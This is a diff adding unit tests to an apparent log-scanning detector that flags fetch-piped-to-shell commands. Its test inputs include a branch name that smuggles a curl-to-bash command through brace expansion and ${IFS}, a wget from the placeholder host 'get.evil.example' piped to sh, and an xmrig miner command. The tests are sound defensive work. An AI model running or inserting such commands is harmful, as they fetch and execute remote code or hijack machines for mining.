@@ -41,6 +41,17 @@ describe('log rules', () => {
     assert.deepEqual(ids(['curl -fsSL https://github.com/install.sh | sh']), []);
   });
 
+  it('flags a fetch piped to a shell when blanks are spelled ${IFS} and the command is a brace list (the Ultralytics branch name)', () => {
+    const branch = 'openimbot:$({curl,-sSfL,raw.githubusercontent.com/ultralytics/ultralytics/12e4f54/file.sh}${IFS}|${IFS}bash)';
+    assert.deepEqual(ids([`git pull origin ${branch}`]), [['log.pipe_to_shell', 'high']]);
+  });
+
+  it('flags a scheme-less URL piped to a shell, and not a fetch piped elsewhere', () => {
+    assert.deepEqual(ids(['wget -qO- get.evil.example/install.sh | sh']), [['log.pipe_to_shell', 'high']]);
+    assert.deepEqual(ids(['curl -s get.evil.example/data.json | jq .version']), []);
+    assert.deepEqual(ids(['curl -fsSL github.com/install.sh | sh']), [], 'a known host stays quiet without a scheme too');
+  });
+
   it('flags miners', () => {
     assert.deepEqual(ids(['./xmrig -o stratum+tcp://pool.example:3333 -u wallet']), [['log.miner', 'critical']]);
   });
